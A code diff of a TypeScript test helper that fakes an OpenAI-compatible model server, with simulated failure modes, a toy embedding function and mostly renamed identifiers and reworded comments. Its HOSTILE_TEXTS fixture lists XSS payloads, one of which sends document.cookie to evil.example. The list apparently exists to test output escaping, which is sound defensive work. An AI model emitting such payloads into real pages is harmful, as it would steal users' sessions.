@@ -2,14 +2,14 @@ import { createServer, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { setTimeout as delay } from 'node:timers/promises';
 
-/** What the look-alike and the server under test share. */
+/** Settings that the look-alike and the server under test share. */
 export const MODEL_NAMES = {
   apiKey: 'a-key-of-the-look-alike',
   model: 'look-alike-1',
   embeddingModel: 'look-alike-embedding-1',
 } as const;
 
-/** A request for an answer, as it arrived. */
+/** A request for an answer, as received. */
 export interface ChatAsked {
   readonly model: string;
   readonly messages: readonly { readonly role: string; readonly content: string }[];
@@ -20,18 +20,18 @@ export interface ChatAsked {
   readonly response_format?: { readonly json_schema?: { readonly name: string; readonly schema: object } };
 }
 
-/** What was said last, which tests answer by. */
-export const lastWordIn = ({ messages }: ChatAsked): string => messages.at(-1)?.content ?? '';
+/** The last message of a request, by which scripts choose their answer. */
+export const lastMessageIn = ({ messages }: ChatAsked): string => messages.at(-1)?.content ?? '';
 
-/** The name of the form that was asked for; null for an answer in words. */
+/** The name of the requested JSON schema; null for a request for text. */
 export const formIn = ({ response_format: form }: ChatAsked): string | null =>
   form?.json_schema?.name ?? null;
 
 /**
- * How the server behaves. `good` and `wrong` say what the script says; which of them it is, the script decides.
- * `slow`: says nothing. `dripping`: begins and never ends. `broken-off`: closes the connection in the middle of the
- * answer. `cut`: ends it in the middle, because it had no more tokens. `unfinished`: ends it without saying why.
- * `declining`: answers with a refusal. `endless`: does not stop.
+ * How the server behaves. `good`: sends the answer of the script. `slow`: never answers. `dripping`: begins the answer
+ * and never ends it. `broken-off`: closes the connection in the middle of the answer. `cut`: ends it in the middle, for
+ * want of tokens. `unfinished`: ends it in the middle without a finish reason. `declining`: sends a refusal. `endless`:
+ * does not stop. The others fail as they are named.
  */
 export type ModelMood =
   | 'good'
@@ -51,7 +51,7 @@ export type ModelMood =
   | 'bad-json'
   | 'bad-stream';
 
-/** What a hostile model would write into any text. */
+/** Attacks that a hostile model could write into any text. */
 export const HOSTILE_TEXTS: readonly string[] = [
   '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
   '<img src=x onerror="alert(1)">',
@@ -64,29 +64,29 @@ export const HOSTILE_TEXTS: readonly string[] = [
 ];
 
 export interface ModelLookAlike {
-  /** With its version: what AI_BASE_URL is set to. */
+  /** The value of AI_BASE_URL, with the version of the interface. */
   readonly url: string;
-  /** Requests for answers that arrived, in their order. */
+  /** The received requests for answers, in order. */
   readonly asked: ChatAsked[];
-  /** Texts for which vectors were asked. */
+  /** The texts of the received requests for embeddings. */
   readonly embedded: string[];
   mood: ModelMood;
-  /** For so many requests; then it is good again. */
+  /** For how many requests the mood applies; then it is `good` again. */
   moodLasts: number;
-  /** Answers a request: by the text that the model says, thoughts, fences and all. */
+  /** The model's answer to a request, including thoughts and code fences. */
   script: (asked: ChatAsked) => string;
-  /** Whether it counts tokens: always, when it is asked to, or never. */
+  /** Whether answers have token counts: always, when requested, or never. */
   counts: 'always' | 'asked' | 'never';
-  /** Members of requests that it does not know and refuses by their names. */
+  /** Members of requests that it refuses as unknown. */
   unknown: readonly string[];
-  /** Pieces in which it streams, characters. */
+  /** The length of the pieces of a stream, characters. */
   pieceLength: number;
-  /** Connections that a client closed before its answer was complete. */
+  /** The number of connections that a client closed before its answer was complete. */
   readonly givenUp: () => number;
   readonly close: () => Promise<void>;
 }
 
-/** Tokens as this provider counts them: four characters each. */
+/** The number of tokens by this provider's count: four characters each. */
 export const countTokens = (text: string): number => Math.ceil(text.length / 4);
 
 const usageOf = ({ messages }: ChatAsked, text: string) => {
@@ -103,7 +103,7 @@ function hashOf(word: string): number {
   return hash;
 }
 
-/** A vector that counts the words of a text: texts that share words are near to each other. It is not of length 1. */
+/** A vector that counts the words of a text, so that texts with common words are near each other. Not of length 1. */
 export function vectorOf(text: string): number[] {
   const vector = Array.from({ length: DIMENSIONS }, () => 0);
   const words = text.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? ['nothing'];
@@ -124,10 +124,10 @@ const answerJson = (response: ServerResponse, status: number, json: object, head
 const refuse = (response: ServerResponse, status: number, message: string, headers: object = {}) =>
   answerJson(response, status, { error: { message, type: 'invalid_request_error' } }, headers);
 
-const say = (response: ServerResponse, data: object | '[DONE]') =>
+const writeEvent = (response: ServerResponse, data: object | '[DONE]') =>
   response.write(`data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`);
 
-/** OpenAI's HTTP interface, as its documentation and the local servers that copy it have it, on a port of this machine. */
+/** OpenAI's HTTP interface, by its documentation and the local servers that implement it, on a port of this machine. */
 export async function serveLanguageModel(
   script: ModelLookAlike['script'] = () => 'A good answer.',
 ): Promise<ModelLookAlike> {
@@ -177,7 +177,7 @@ interface Arrived {
 async function answer(books: ModelLookAlike, { path, key, body }: Arrived, response: ServerResponse) {
   const mood = nextMood(books);
   if (path === '/v1/chat/completions') books.asked.push(body as unknown as ChatAsked);
-  if (isRude(mood, response)) return;
+  if (isAnsweredByFault(mood, response)) return;
   if (key !== `Bearer ${MODEL_NAMES.apiKey}`) return refuse(response, 401, 'Incorrect API key provided.');
   const strange = books.unknown.find((name) => name in body);
   if (strange !== undefined) return refuse(response, 400, `Unsupported parameter: '${strange}'`);
@@ -197,8 +197,8 @@ function nextMood(books: ModelLookAlike): ModelMood {
   return books.mood;
 }
 
-/** @returns whether it has answered, or never will. */
-function isRude(mood: ModelMood, response: ServerResponse): boolean {
+/** @returns whether the mood decides the answer, so that no other is sent. */
+function isAnsweredByFault(mood: ModelMood, response: ServerResponse): boolean {
   if (mood === 'slow') return true;
   if (mood === 'down') response.socket?.destroy();
   else if (mood === '500') refuse(response, 500, 'The server had an error.');
@@ -231,7 +231,7 @@ function answerEmbeddings(books: ModelLookAlike, { input, model }: Json, respons
   const data = texts.map((text, index) => ({ object: 'embedding', index, embedding: vectorOf(text) }));
   const tokens = texts.reduce((sum, text) => sum + countTokens(text), 0);
   const usage = { prompt_tokens: tokens, total_tokens: tokens };
-  // A provider promises no order.
+  // Reversed, because providers guarantee no order.
   answerJson(response, 200, { object: 'list', model, data: data.reverse(), usage });
 }
 
@@ -257,32 +257,34 @@ async function stream(books: ModelLookAlike, asked: ChatAsked, mood: ModelMood, 
   const text = books.script(asked);
   response.writeHead(200, { 'content-type': 'text/event-stream' });
   if (mood === 'bad-stream') return void response.end('data: {"choices": [{"del\n\n');
-  if (mood === 'declining') say(response, chunk({ role: 'assistant', refusal: 'I cannot help with that.' }));
-  if (mood === 'endless') return pourOut(response);
+  if (mood === 'declining')
+    writeEvent(response, chunk({ role: 'assistant', refusal: 'I cannot help with that.' }));
+  if (mood === 'endless') return writeEndlessly(response);
   const half = mood === 'good' || mood === 'declining' ? text : text.slice(0, Math.ceil(text.length / 2));
   for (let at = 0; at < half.length; at += books.pieceLength)
-    say(response, chunk({ content: half.slice(at, at + books.pieceLength) }));
+    writeEvent(response, chunk({ content: half.slice(at, at + books.pieceLength) }));
   if (mood === 'dripping') return;
-  // What was written has left by the next turn.
+  // The chunks so far are sent before the next turn of the event loop.
   if (mood === 'broken-off') return void setImmediate(() => response.socket?.destroy());
-  if (mood !== 'unfinished') say(response, chunk({}, mood === 'cut' ? 'length' : 'stop'));
-  if (isCounted(books, asked)) say(response, { ...chunk({}), choices: [], usage: usageOf(asked, half) });
-  say(response, '[DONE]');
+  if (mood !== 'unfinished') writeEvent(response, chunk({}, mood === 'cut' ? 'length' : 'stop'));
+  if (isCounted(books, asked))
+    writeEvent(response, { ...chunk({}), choices: [], usage: usageOf(asked, half) });
+  writeEvent(response, '[DONE]');
   response.end();
 }
 
 const isCounted = ({ counts }: ModelLookAlike, { stream_options: options }: ChatAsked) =>
   counts === 'always' || (counts === 'asked' && options?.include_usage === true);
 
-/** Until the client has had enough. */
-async function pourOut(response: ServerResponse): Promise<void> {
+/** Writes until the client closes the connection. */
+async function writeEndlessly(response: ServerResponse): Promise<void> {
   while (!response.closed) {
-    say(response, chunk({ content: 'and so on '.repeat(100) }));
+    writeEvent(response, chunk({ content: 'and so on '.repeat(100) }));
     await delay(1);
   }
 }
 
-/** What makes a server process use the look-alike. */
+/** The environment that makes a server process use the look-alike. */
 export const modelEnvironment = (url: string) => ({
   AI_BASE_URL: url,
   AI_API_KEY: MODEL_NAMES.apiKey,
